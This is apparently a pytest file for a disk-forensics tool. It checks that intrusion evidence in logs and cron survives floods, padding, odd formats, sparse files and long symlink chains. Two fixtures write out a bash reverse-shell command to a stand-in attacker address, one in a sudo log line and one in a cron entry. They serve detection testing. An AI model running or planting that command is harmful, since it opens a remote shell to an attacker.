# SPDX-License-Identifier: AGPL-3.0-or-later
"""What somebody does who wants "complete, nothing found" for a machine that he was on: floods, padding, odd forms, and files that no
directory names. Each must be found, or named and counted."""

import io
import os
import struct
from collections.abc import Iterator
from pathlib import Path

import pytest
from backports import zstd
from conftest import VOLUME, TreeMaker
from disks import file_system
from dissect.extfs import extfs
from test_logins import ATTACKER, BASE, utmp

from clean_room_analysis import limits
from clean_room_analysis.checks import login_sums
from clean_room_analysis.checks.base import Item, Result
from clean_room_analysis.checks.cron import Cron
from clean_room_analysis.checks.logins import Logins
from clean_room_analysis.checks.odd_directories import OddDirectories
from clean_room_analysis.ledger import Ledger
from clean_room_analysis.limits import Deadline
from clean_room_analysis.model import Entry, FileSystemReport, Finding, NotLookedAt, Severity, TimelineEvent
from clean_room_analysis.mounted_tree import MountedTree
from clean_room_analysis.raw_tree import RawTree
from clean_room_analysis.timeline import Timeline
from clean_room_analysis.walker import Walker

GUESSED = f"root logged in from {ATTACKER} after"


def line(message: str, program: str = "sshd", second: int = 0) -> str:
    """A line of auth.log."""
    return f"2026-11-20T03:{second // 60 % 60:02}:{second % 60:02}+00:00 host {program}[77]: {message}\n"


def failures(host: str, count: int = 12) -> str:
    return "".join(line(f"Failed password for root from {host} port 4{index:04} ssh2", second=index) for index in range(count))


def entered(host: str = ATTACKER, user: str = "root", how: str = "password") -> str:
    return line(f"Accepted {how} for {user} from {host} port 40000 ssh2", second=3000)


def gravest(plain: TreeMaker) -> Finding:
    order = list(Severity)
    return min(plain.findings(Logins()), key=lambda one: order.index(one.severity))


def test_a_flood_of_other_addresses_hides_no_guesser(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(login_sums, "DISTINCT", 300)
    flood = "".join(
        line(f"Failed password for invalid user a from 2001:db8::{index:x} port 1 ssh2", second=index) for index in range(1, 1000)
    )
    plain.file("/var/log/auth.log", flood + failures(ATTACKER) + entered())
    said = plain.results(Logins())
    assert any(isinstance(one, Finding) and one.severity is Severity.CRITICAL and one.title.startswith(GUESSED) for one in said)
    assert any(isinstance(one, NotLookedAt) and one.incomplete and "addresses that failed to log in once" in one.what for one in said)


def test_a_flood_of_log_ins_is_counted(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(login_sums, "DISTINCT", 300)
    plain.file("/var/log/auth.log", "".join(entered(f"10.0.{index // 250}.{index % 250}", "u") for index in range(400)) + entered())
    (left,) = [one for one in plain.results(Logins()) if isinstance(one, NotLookedAt)]
    assert left.incomplete and "101 log-ins" in left.what


def test_a_flood_of_failures_takes_no_room_from_log_ins_in_the_timeline(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "LOGIN_EVENTS", 50)
    plain.file("/var/log/btmp", b"".join(utmp(6, "root", "192.0.2.1", BASE + index) for index in range(200)))
    plain.file("/var/log/wtmp", utmp(7, "deploy", ATTACKER, BASE + 900))
    os.utime(plain.root / "var/log/wtmp", (BASE - 10**6, BASE - 10**6))  # read last
    said = plain.results(Logins())
    assert any(isinstance(one, TimelineEvent) and one.message.startswith("deploy logged in") for one in said)
    (left,) = [one for one in said if isinstance(one, NotLookedAt)]
    assert not left.incomplete and "150 failed log-ins" in left.what


def test_the_last_log_in_behind_a_flood_of_records_is_found(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "LOGIN_RECORDS", 500)
    flood = b"".join(utmp(8, "", "", BASE + index) for index in range(2000))
    plain.file("/var/log/wtmp", flood + utmp(7, "root", ATTACKER, BASE + 9000))
    check = Logins()
    found: list[Result] = []
    tree = MountedTree(str(plain.root))
    for entry in tree.walk(lambda path, why: None):
        if check.wants(entry):
            list(check.examine(Item(entry, tree, VOLUME)))
    with pytest.raises(ValueError, match="1501 oldest records were left out"):
        for one in check.leave(tree):
            found.append(one)
    tree.close()
    assert any(isinstance(one, Finding) and one.title.startswith("root logged in from") for one in found)


def test_a_flood_of_small_commands_does_not_silence_a_grave_one(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(login_sums, "DISTINCT", 100)
    flood = "".join(line(f"x{index}: module verification failed: taint", "kernel", index) for index in range(300))
    evil = line("root : PWD=/ ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1", "sudo", 500)
    plain.file("/var/log/messages", flood + evil)
    assert gravest(plain).severity in (Severity.CRITICAL, Severity.HIGH)


def test_a_chosen_user_name_blames_no_other_address(plain: TreeMaker) -> None:
    name = "x from 192.0.2.10 port 22 ssh2"
    attempts = "".join(line(f"Failed password for invalid user {name} from {ATTACKER} port 4000 ssh2", second=index) for index in range(15))
    plain.file("/var/log/auth.log", attempts + entered("192.0.2.10", "admin", "publickey"))
    assert [one.title for one in plain.findings(Logins()) if "failed" in one.title] == [f"15 failed log-ins from {ATTACKER}"]
    long_name = "y" * 300
    plain.file("/var/log/auth.log", attempts.replace(name, long_name) + entered())
    assert gravest(plain).severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "content",
    [
        line("x").encode() + bytes(3000) + entered().encode(),  # what a crash leaves
        line("x").encode() + bytes(70_000) + entered().encode(),
        entered().rstrip("\n").encode() + bytes(900) + b"\n" + line("y").encode(),
        entered(how="keyboard-interactive/pam").encode(),
        line(f"Accepted password for root from {ATTACKER} port 1 ssh2", "sshd-auth").encode(),
        line(f"Password auth succeeded for 'root' from {ATTACKER}:4000", "dropbear").encode(),
        line(f"Pubkey auth succeeded for 'root' with ssh-ed25519 key SHA256:abc from {ATTACKER}:4000", "dropbear").encode(),
        f"<38>1 2026-11-20T03:50:00.123Z host sshd 77 - - Accepted password for root from {ATTACKER} port 1 ssh2\n".encode(),
        f'1 2026-11-20T03:50:00+00:00 host sshd 77 ID1 [a b="c"] Accepted password for root from {ATTACKER} port 1 ssh2\n'.encode(),
        f"Nov 20 2026 03:50:00 host sshd[7]: Accepted password for root from {ATTACKER} port 1 ssh2\n".encode(),
    ],
)
def test_a_log_in_is_found_in_any_form(content: bytes, plain: TreeMaker) -> None:
    plain.file("/var/log/auth.log", content)
    found = gravest(plain)
    assert found.severity is Severity.MEDIUM and found.title.endswith(f"from {ATTACKER}")


def test_a_rotated_log_in_zstandard_is_read(plain: TreeMaker) -> None:
    plain.file("/var/log/auth.log.2.zst", zstd.compress((failures(ATTACKER) + entered()).encode()))
    assert gravest(plain).severity is Severity.CRITICAL


def test_lines_in_a_form_that_is_not_known_are_an_error_and_no_silence(plain: TreeMaker) -> None:
    plain.file("/var/log/secure", f"[20/Nov/2026 03:50] sshd: Accepted password for root from {ATTACKER} port 1 ssh2\n" * 3)
    with pytest.raises(ValueError, match="3 of its lines speak of log-ins"):
        plain.results(Logins())


def test_a_last_log_in_behind_holes_that_nobody_tells_is_found(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "LOG_BYTES", 2 * limits.MEBIBYTE)
    monkeypatch.setattr(MountedTree, "next_data", lambda self, handle, offset: offset)  # as read raw
    path = plain.file("/var/log/lastlog")
    with path.open("r+b") as handle:
        handle.seek(300_000 * 292)
        handle.write(struct.pack("<i32s256s", BASE, b"pts/0", ATTACKER.encode()))
    assert [one.title for one in plain.findings(Logins())] == [f"user 300000 logged in from {ATTACKER}"]


@pytest.mark.parametrize("size", [292, 296])
def test_a_huge_user_number_has_its_last_log_in(size: int, plain: TreeMaker) -> None:
    user = 1_200_345_678
    plain.file("/etc/passwd", f"admin:x:{user}:1::/:/bin/bash\n")
    path = plain.file("/var/log/lastlog")
    with path.open("r+b") as handle:
        handle.seek(user * size)
        layout = "<i32s256s" if size == 292 else "<q32s256s"
        handle.write(struct.pack(layout, BASE, b"pts/0", ATTACKER.encode()))
    assert [one.title for one in plain.findings(Logins())] == [f"admin logged in from {ATTACKER}"]


def test_it_is_said_when_there_are_more_roots_than_are_read(plain: TreeMaker, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setattr(limits, "ROOTS", 5)
    for number in range(9):
        plain.file(f"/tmp/a{number}/etc/passwd", "")
    plain.file("/var/lib/docker/overlay2/0123456789ab/diff/etc/passwd", "toor:x:0:0::/:/bin/sh\n")
    timeline = Timeline(str(tmp_path))
    ledger = Ledger(io.StringIO(), timeline)
    tree = MountedTree(str(plain.root))
    walker = Walker(ledger, timeline, io.StringIO(), Deadline(60), [Cron()], [], str(tmp_path))
    walker.read(tree, VOLUME, FileSystemReport("ext4", None, 0))
    tree.close()
    assert not ledger.complete and "5 more directories that hold a system" in str(ledger.unseen())


def test_a_directory_is_listed_once_for_all_its_files(monkeypatch: pytest.MonkeyPatch) -> None:
    tree = RawTree(io.BytesIO(file_system()), "ext4")
    paths = [entry.path for entry in tree.walk(lambda path, why: None) if entry.path.startswith("/exact/")]
    listed = 0
    iterdir = extfs.INode.iterdir

    def counted(node: extfs.INode) -> Iterator[extfs.INode]:
        nonlocal listed
        listed += 1
        return iterdir(node)

    monkeypatch.setattr(extfs.INode, "iterdir", counted)
    again = RawTree(io.BytesIO(file_system()), "ext4")
    assert [len(again.read(path, 100)) for path in paths] == list(range(90))
    assert listed <= 4 and again.entry("/exact/none") is None and again.entry("/none/0001") is None


@pytest.mark.parametrize(
    ("path", "mode", "severity"),
    [
        ("/usr/lib/.x", 0o060666, Severity.HIGH),
        ("/srv/disk", 0o060600, Severity.MEDIUM),
        ("/var/lib/chroot/dev/sda", 0o060660, None),
        ("/dev/nvme0n1", 0o060660, None),
        ("/srv/tty", 0o020666, None),
    ],
)
def test_a_disk_under_another_name_is_told(path: str, mode: int, severity: Severity | None, plain: TreeMaker) -> None:
    entry = Entry(path, path, 9, mode, 1, 0, 0, 0, BASE, BASE, BASE, None)
    tree = MountedTree(str(plain.root))
    check = OddDirectories()
    found = [one for one in check.examine(Item(entry, tree, VOLUME)) if isinstance(one, Finding)] if check.wants(entry) else []
    tree.close()
    assert [one.severity for one in found] == ([] if severity is None else [severity])


def test_links_are_followed_as_far_as_the_kernel_follows_them(plain: TreeMaker) -> None:
    plain.file("/opt/l0", "* * * * * root bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n")
    for number in range(1, 38):
        plain.link(f"/opt/l{number}", f"l{number - 1}")
    plain.link("/etc/cron.d/job", "/opt/l37")
    assert plain.findings(Cron())
